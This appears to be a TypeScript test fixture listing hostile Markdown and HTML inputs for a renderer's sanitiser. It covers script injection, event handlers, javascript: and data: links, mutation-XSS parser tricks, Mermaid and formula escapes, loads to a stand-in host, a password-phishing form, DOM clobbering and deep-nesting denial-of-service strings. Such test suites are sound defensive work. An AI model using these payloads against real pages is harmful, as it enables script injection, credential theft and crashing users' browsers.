// What a hostile writer might try, each with what it is after. Code that runs sets `top.canary`; what loads asks for an
// address with `canary` in it, on another host or on ours.

const run = "top.canary=1;alert(1)";
const away = "https://canary.example";
const mermaid = (source: string) => `\`\`\`mermaid\n${source}\n\`\`\``;

export const hostileTexts: Record<string, string> = {
  // Scripts
  "a script": `<script>${run}</script>`,
  "a script in capitals with a broken end": `<SCRIPT\n>${run}</SCRIPT foo>`,
  "a script from another host": `<script src="${away}/x.js"></script>`,
  "a script of ours, loaded again": `<script src="/canary.js"></script>`,
  "a script inside SVG": `<svg><script>${run}</script></svg>`,
  "a script inside MathML": `<math><mtext><script>${run}</script></mtext></math>`,
  "a script in a comment that is none": `<!--><script>${run}</script>-->`,
  "a script split by Markdown": `<scr**ipt>${run}</scr**ipt> <scr<script>ipt>${run}</script>`,
  "a script in a template": `<template><script>${run}</script></template>`,
  "a script after noscript": `<noscript><p title="</noscript><script>${run}</script>"></noscript>`,
  "a module preload": `<link rel="modulepreload" href="${away}/x.js"><link rel="preload" as="script" href="/canary.js">`,
  // Handlers
  "an image with onerror": `<img src=x onerror="${run}">`,
  "an image with onload": `<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload="${run}">`,
  "SVG with onload": `<svg onload="${run}"><animate onbegin="${run}" attributeName=x dur=1s></svg>`,
  "details with ontoggle": `<details open ontoggle="${run}"><summary>x</summary>y</details>`,
  "an input that takes focus": `<input autofocus onfocus="${run}"><div tabindex=0 autofocus onfocus="${run}">x</div>`,
  "a body with onload": `<body onload="${run}" onpageshow="${run}">text</body>`,
  "a marquee": `<marquee onstart="${run}">x</marquee>`,
  "a transition with a handler": `<p style="transition:all 1s" ontransitionend="${run}" onmouseover="${run}">x</p>`,
  "a popover with a handler": `<button popovertarget=x>x</button><div id=x popover onbeforetoggle="${run}">y</div>`,
  // Links
  "a javascript link": `[click](javascript:${run})`,
  "a javascript link, disguised": `[a](JaVaScRiPt&#58;${run}) [b](java&#x0A;script:${run}) [c](&#x01;javascript:${run}) [d](<java\tscript:${run}>)`,
  "a javascript link in HTML": `<a href="javascript:${run}">x</a><a href=" &#14; javascript:${run}">y</a><a xlink:href="javascript:${run}">z</a>`,
  "a javascript autolink": `<javascript:${run}>`,
  "a data link": `[x](data:text/html,<script>${run}</script>) <a href="data:text/html;base64,PHNjcmlwdD4=">y</a>`,
  "vbscript, file, blob and intent links": `[a](vbscript:x) [b](file:///etc/passwd) [c](blob:https://x/y) [d](intent://x#Intent;end)`,
  "a reference with a javascript target": `[x][1]\n\n[1]: javascript:${run}`,
  "a footnote with a javascript link": `x[^1]\n\n[^1]: [y](javascript:${run}) <img src=/canary.png>`,
  "a link that pings": `<a href="${away}/" ping="/canary-ping ${away}/ping" target="_top" rel="opener" download>x</a>`,
  "an image map": `<map name="m"><area shape="default" href="javascript:${run}"></map><img usemap="#m" src="/canary.png">`,
  // Loads
  "images on another host": `![x](${away}/a.png) <img src="${away}/b.png" srcset="${away}/c.png 2x" lowsrc="${away}/d.png">`,
  "images on this host": `![x](/canary.png) ![y](/api/v1/canary) ![z](canary.png "t")`,
  "an image without a scheme": `![x](//canary.example/a.png) ![y](\\\\\\\\canary.example/b.png)`,
  "a picture and its sources": `<picture><source srcset="${away}/a.png"><source srcset="/canary.png"><img src="/canary.png"></picture>`,
  "video, audio and track": `<video src="${away}/a.mp4" poster="${away}/p.png" autoplay></video><audio src="/canary.mp3" autoplay><track src="/canary.vtt"></audio>`,
  frames: `<iframe src="${away}/"></iframe><iframe srcdoc="<script>${run}</script>"></iframe><frame src="/canary"><object data="/canary.svg"></object><embed src="${away}/e.svg">`,
  "a style sheet": `<link rel="stylesheet" href="${away}/a.css"><style>@import "${away}/b.css"; body { background: url(/canary.png); display: none }</style>`,
  "style attributes": `<p style="background:url(${away}/a.png);position:fixed;inset:0">x</p><table background="${away}/b.png"><tr><td background="/canary.png">x</td></tr></table>`,
  "a font": `<style>@font-face{font-family:x;src:url(${away}/f.woff2)}*{font-family:x}</style><font face="x">y</font>`,
  "SVG that loads": `<svg><image href="${away}/a.png"/><use href="/canary.svg#x"/><feImage href="${away}/b.png"/></svg>`,
  "an SVG image in a data link": `![x](data:image/svg+xml,%3Csvg%20xmlns='http://www.w3.org/2000/svg'%20onload='${run}'%3E%3Cimage%20href='${away}/a.png'/%3E%3C/svg%3E)`,
  "hints to connect": `<link rel="dns-prefetch" href="${away}"><link rel="preconnect" href="${away}"><link rel="prefetch" href="/canary"><link rel="icon" href="/canary.ico">`,
  // The page itself
  "a refresh": `<meta http-equiv="refresh" content="0;url=${away}/">`,
  "a policy of its own": `<meta http-equiv="Content-Security-Policy" content="default-src *">`,
  "a base": `<base href="${away}/" target="_blank">\n\n[x](y) ![z](w.png)`,
  "a form that asks for the password": `<form action="${away}/" method="post"><input name="password" type="password"><button formaction="${away}/">Unlock</button></form><isindex action="${away}">`,
  "ids that shadow the document": `<a id="plain">a</a><a id="forms">b</a><a name="getElementById">c</a><span id="body">d</span><a id="__open">e</a><a id="location" href="https://x.example">f</a>`,
  "names that shadow the document": `<form name="cookie"></form><img name="forms"><object name="scripts"></object><input name="getElementById"><a name="all">x</a>`,
  "headings that shadow the document": `# forms\n\n# getElementById\n\n# plain\n\n# body`,
  "custom elements and slots": `<x-y is="z" onclick="${run}">a</x-y><slot name="x"></slot><dialog open>b</dialog><portal src="${away}"></portal>`,
  "keys and microdata": `<a accesskey="x" tabindex="1" href="https://x.example">a</a><div itemscope itemtype="${away}">b</div><p contenteditable>c</p>`,
  // Broken on purpose
  "tags that a parser turns around": `<svg></p><style><a id="</style><img src=/canary.png onerror=${run}>">`,
  "MathML that a parser turns around": `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=/canary.png onerror=${run}&gt;">`,
  "a table that never ends": `<table><tr><td><![CDATA[<script>${run}</script>]]><select><option><script>${run}</script>`,
  "plaintext and textarea": `<textarea><script>${run}</script></textarea><xmp><script>${run}</script></xmp><plaintext><script>${run}</script>`,
  "a processing instruction": `<?xml-stylesheet href="${away}/a.css"?><!DOCTYPE html [<!ENTITY x SYSTEM "${away}">]>&x;`,
  // Code fences
  "a fence with a hostile language": `\`\`\`"><img/src=/canary.png/onerror=${run}> {onload="${run}"}\n<script>${run}</script>\n\`\`\``,
  "a fence whose language is a member of every object":
    "```__proto__\nx\n```\n\n```constructor\ny\n```\n\n```toString\nz\n```",
  // Diagrams
  "a diagram that runs on a click": mermaid(
    `graph TD\nA[x]-->B[y]\nclick A call alert("1")\nclick B href "javascript:${run}"\nclick A "${away}/" _blank`,
  ),
  "a diagram with tags in its labels": mermaid(
    `graph TD\nA["<img src=/canary.png onerror='${run}'>"]-->B["<script>${run}</script><b>y</b>"]`,
  ),
  "a diagram that turns the safety off": mermaid(
    `%%{init: {"securityLevel": "loose", "htmlLabels": true, "flowchart": {"htmlLabels": true}, "secure": []}}%%\ngraph TD\nA["<img src='${away}/a.png' onerror='${run}'>"]-->B`,
  ),
  "a diagram that turns the safety off by front matter": mermaid(
    `---\nconfig:\n  securityLevel: loose\n  htmlLabels: true\n  themeCSS: "@import url(${away}/a.css);"\n---\ngraph TD\nA["<iframe src='${away}'>"]-->B`,
  ),
  "a diagram with CSS that loads": mermaid(
    `%%{init: {"themeCSS": "* { background: url(${away}/a.png) } @import url(/canary.css);", "fontFamily": "x;}*{background:url(/canary.png)}"}}%%\ngraph TD\nA-->B`,
  ),
  "a diagram with variables that load": mermaid(
    `%%{init: {"theme": "base", "themeVariables": {"primaryColor": "red;}*{background:url(${away}/a.png)}", "fontFamily": "x;}@import '/canary.css';"}}}%%\ngraph TD\nA-->B`,
  ),
  "a diagram with classes that load": mermaid(
    `graph TD\nA-->B\nclassDef x fill:url(${away}/a.svg),background:url(/canary.png)\nclass A x\nstyle B fill:url(${away}/b.svg)\nlinkStyle 0 stroke:url(/canary.svg)`,
  ),
  "a diagram with an image for a node": mermaid(
    `graph TD\nA@{ img: "${away}/a.png", label: "x", w: 60, h: 60 }-->B@{ img: "/canary.png" }\nC@{ icon: "fa:user" }`,
  ),
  "a diagram with filters, masks and pointers that load": mermaid(
    `graph TD\nA-->B\nclassDef x filter:url(/canary.svg#f),mask-image:url(${away}/m.png),cursor:url(/canary.cur)\nclass A x\nstyle B filter:u\\72l(/canary.svg#g),content:url(/canary.png)`,
  ),
  "a diagram with tags as entities": mermaid(
    `graph TD\nA["&lt;img src=/canary.png onerror='${run}'&gt;"]-->B["#lt;img src=/canary.png onerror='${run}'#gt;"]\nC["\`<<img src=/canary.png onerror='${run}'>\`"]`,
  ),
  "a sequence with an icon": mermaid(
    `sequenceDiagram\nparticipant A\nproperties A: {"icon": "/canary.png", "class": "x"}\nA->>A: x`,
  ),
  "a map of containers with pictures": mermaid(
    `C4Context\nPerson(a, "A", "x", $sprite="/canary.png", $link="javascript:${run}")\nUpdateElementStyle(a, $bgColor="url(/canary.svg#x)")`,
  ),
  "classes, states, minds and requirements with tags": [
    'classDiagram\nclass A["X"]\nA : +b()',
    "stateDiagram-v2\ns1 : X",
    "mindmap\n  root((X))",
    'erDiagram\nA ||--o{ B : "X"',
    'pie title X\n"X" : 1',
    "gantt\ntitle X\nsection X\nX :a, 2024-01-01, 1d",
    "timeline\ntitle X\n2020 : X",
    "journey\ntitle X\nsection X\nX: 5: X",
  ]
    .map((source) => mermaid(source.replaceAll("X", `<img src=/canary.png onerror=top.canary=1>`)))
    .join("\n\n"),
  "a sequence with links and tags": mermaid(
    `sequenceDiagram\nparticipant A\nlink A: x @ javascript:${run}\nlinks A: {"y": "${away}/"}\nA->>B: <img src=/canary.png onerror=${run}>\nNote over A: <script>${run}</script>`,
  ),
  // Formulas
  "a formula with links": `$$\n\\href{javascript:${run}}{x} \\url{${away}/}\n$$`,
  "a formula with an image": `$$\n\\includegraphics[height=1em]{${away}/a.png} \\includegraphics{/canary.png}\n$$`,
  "a formula with attributes": `$$\n\\htmlId{forms}{x} \\htmlClass{y}{z} \\htmlStyle{background:url(${away}/a.png)}{s} \\htmlData{onclick=${run}}{d}\n$$`,
  "a formula with tags": `$$\n\\text{<img src=/canary.png onerror=${run}>} </span><script>${run}</script>\n$$`,
  "a formula that never ends": `$$\n\\def\\a{\\b\\b}\\def\\b{\\c\\c}\\def\\c{\\d\\d}\\def\\d{\\a\\a}\\a \\rule{100000em}{100000em}\n$$`,
};

/** Deeper or more tangled than a renderer may go: the text has to stay readable, and the page alive. */
export const deepTexts: Record<string, string> = {
  "quotes, one in the other": `${"> ".repeat(3000)}end`,
  "lists, one in the other": `${"- ".repeat(3000)}end`,
  "tags, one in the other": `${"<div>".repeat(5000)}end`,
  "marks of emphasis, crossed": `${"*_".repeat(35_000)} end`,
  "headings underlined, thousands": `${"a\n-\n".repeat(18_000)}\nend`,
  "brackets that never close": `${"[".repeat(5000)}end`,
};
